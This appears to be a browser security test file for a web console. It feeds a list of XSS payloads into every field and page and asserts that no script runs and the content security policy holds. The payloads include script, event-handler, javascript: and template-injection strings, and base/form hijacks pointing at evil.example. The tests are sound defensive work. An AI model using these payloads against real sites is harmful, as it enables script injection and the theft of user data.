"""Hostile names and texts on every page of the console, in a real Chromium: no script runs, and no page's policy is hurt."""

import json
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

import flows
from mneme.settings import Settings, load_settings
from serving.service.service import Service
from tests.serving.console.conftest import Console, Visitor, browser, chromium, playwright, served, visiting, window

__all__ = ["browser", "chromium", "playwright", "window"]  # fixtures

PAYLOADS = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    '"><script>window.hacked=1</script>',
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script href=data:,window.hacked=1></script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href=javascript:window.hacked=1>x</a>",
    "javascript:window.hacked=1",
    "' onfocus=window.hacked=1 autofocus='",
    '" onmouseover="window.hacked=1',
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "`;window.hacked=1;`",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "</style><style>@import'//evil.example/x'</style>",
    "<math><mtext><style><img src=x onerror=window.hacked=1></style>",
    "<details open ontoggle=window.hacked=1>",
    "<base href=//evil.example/><form action=//evil.example><input name=key>",
    "[x](javascript:window.hacked=1)<!--",
    "\u2028window.hacked=1\u2029</textarea><script>window.hacked=1</script>",
)
OWNER = PAYLOADS[0]


def hostile_events() -> Iterator[dict[str, object]]:
    """One owner with every payload as conversation, sender, text, document and its fields; and every payload as an owner."""
    for number, payload in enumerate(PAYLOADS):
        text = f"Anna {payload} moved to Berlin on 3 May 2024 and works at {payload}."
        said = {"event": "message", "sent_at": f"2025-01-01T10:{number:02}:00Z", "content": text, "sender_name": payload}
        told = said | {"message_id": f"{number}{payload}", "sender_id": payload, "metadata": {payload: payload}}
        yield told | {"conversation_id": payload, "user_id": OWNER, "title": payload}
        yield told | {"conversation_id": "all", "user_id": OWNER}
        yield told | {"conversation_id": f"own {number}", "user_id": payload}
        document = {"event": "document", "document_id": payload, "name": f"{payload}.md", "title": payload, "user_id": OWNER}
        yield document | {"content": f"# {payload}\n\n{text}", "metadata": {payload: payload}}
        yield {"event": payload, payload: payload, "conversation_id": payload}  # a dead letter


@pytest.fixture(scope="module")
def console(chromium: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    folder = tmp_path_factory.mktemp("hostile")
    settings: Settings = load_settings(
        {}, data=folder / "data", service={"requests_per_minute": 0, "intake": "none"}, embedder={"provider": "hash"}
    )
    talk = folder / "hostile.jsonl"
    talk.write_text("".join(json.dumps(event) + "\n" for event in hostile_events()))
    flows.ingest([talk], settings)
    with Service(settings) as service, served(service) as console:
        yield console


@pytest.fixture(scope="module", autouse=True)
def noted(window: Page) -> None:
    window.add_init_script(
        "window.violations = []; addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective))"
    )


@pytest.fixture
def visitor(window: Page, console: Console) -> Iterator[Visitor]:
    with visiting(window, console) as visitor:
        yield visitor


_TOUCH = """for (const each of document.querySelectorAll("details")) each.open = true;
for (const each of document.querySelectorAll("[data-record]")) each.dispatchEvent(new Event("mouseover", { bubbles: true }));"""
_MARKUP = "main.content :is(script, img, iframe, math, style, base, [onload], [onerror], [onfocus], [onmouseover], [ontoggle])"
_LEADS_TO = """[...document.querySelectorAll("main a, main form, main iframe, main img")]
  .map((each) => each.href?.baseVal ?? (each.href || each.action || each.src)).filter(Boolean)
  .map((to) => new URL(to, document.baseURI).href)"""


def seen_through(visitor: Visitor) -> None:
    """Open and touch all that opens on a page; nothing must have run."""
    page = visitor.page
    page.evaluate(f"() => {{ {_TOUCH} }}")
    page.wait_for_timeout(50)
    assert page.evaluate("window.hacked") is None, page.url
    assert page.evaluate("window.violations") == [], page.url
    assert page.locator(_MARKUP).count() == 0, page.url
    here = page.url.split("/console/")[0]
    assert [to for to in page.evaluate(_LEADS_TO) if not to.startswith(here)] == []


def pages(payloads: Sequence[str]) -> list[str]:
    """Every page about the hostile owner, then payloads in what the address says."""
    owner = f"owner=user:{quote(OWNER, safe='')}"
    whole = [f"{page}?{owner}" for page in ("conversations", "facts", "graph", "profile", "documents", "flow")]
    whole += [f"conversation?id=all&{owner}", f"search?q=Anna+Berlin&{owner}&top_k=60", f"search?q=Anna&ask=1&{owner}"]
    for payload in payloads:
        named = quote(payload, safe="")
        whole += [f"search?q={named}&{owner}", f"conversation?id={named}&{owner}", f"document?id={named}&{owner}"]
    asked = quote(payloads[2], safe="")
    names = "owner tenant id after told from method top_k kind since agent name hops mode".split()
    said = "&".join(f"{name}={asked}" for name in names)
    return whole + [f"{page}?{said}" for page in ("conversations", "search", "graph", "profile", "documents", "document")]


@pytest.mark.slow
def test_no_hostile_name_or_text_runs_on_any_page(
    visitor: Visitor, tried: Callable[[Sequence[str]], Sequence[str]], is_long: bool
) -> None:
    """Each payload stands in every field; the short form opens fewer of the pages that show one of them alone"""
    for address in tried(pages(PAYLOADS if is_long else PAYLOADS[1:20:6])):
        visitor.open(address)
        seen_through(visitor)


def test_the_hostile_texts_are_really_there(visitor: Visitor) -> None:
    owner = f"owner=user:{quote(OWNER, safe='')}"
    for address in (f"conversations?{owner}", f"documents?{owner}"):
        rows = visitor.open(address).locator("main ul.rows li").all_text_contents()
        assert sum(any(payload.strip() in row for row in rows) for payload in PAYLOADS) >= len(PAYLOADS) - 1, address
    shown = visitor.open(f"conversation?id=all&{owner}").locator("main.content").text_content() or ""
    assert all(payload.split("\u2028")[0] in shown for payload in PAYLOADS)


def test_the_policy_itself_stops_what_a_hole_would_let_in(visitor: Visitor) -> None:
    """Scripts, handlers, strings made into code, foreign forms and pictures: the browser refuses each"""
    page = visitor.open("conversations")
    attempts = (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked=1\">')",
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked=2'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'data:text/javascript,window.hacked=3'}))",
        "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.hacked=4</script>\"></iframe>')",
        "document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))",
        "document.body.append(Object.assign(new Image(), {src: 'http://127.0.0.1:1/secret'}))",
        "setTimeout('window.hacked=5')",
    )
    for attempt in attempts:
        page.evaluate(f"() => {{ try {{ {attempt} }} catch {{}} }}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert len(page.evaluate("violations")) >= len(attempts) - 1
    assert "evil" not in page.evaluate("document.baseURI")
    visitor.troubles.clear()


@contextmanager
def foreign_site(html: str) -> Iterator[str]:
    """A page of another origin on this machine."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


def test_a_foreign_page_shows_the_console_in_no_frame_and_opens_no_socket(visitor: Visitor, tmp_path: Path) -> None:
    url = visitor.console.url
    frames = "".join(f'<iframe src="{url}{page}"></iframe>' for page in ("conversations", "login", "../openapi.json"))
    opening = f"""<script>
      const socket = new WebSocket("{url.replace("http", "ws", 1)}_nicegui_ws/socket.io/?EIO=4&transport=websocket");
      socket.onopen = () => document.title = "opened"; socket.onerror = () => document.title = "refused";
    </script>"""
    with foreign_site(f"<!doctype html><title>evil</title>{frames}{opening}") as site:
        page = visitor.page
        page.goto(site)
        while page.title() == "evil":
            page.wait_for_timeout(20)
        assert page.title() == "refused"
        assert len(page.frames) == 4
        assert [frame.url for frame in page.frames[1:] if frame.url.startswith("http")] == []
    visitor.troubles.clear()
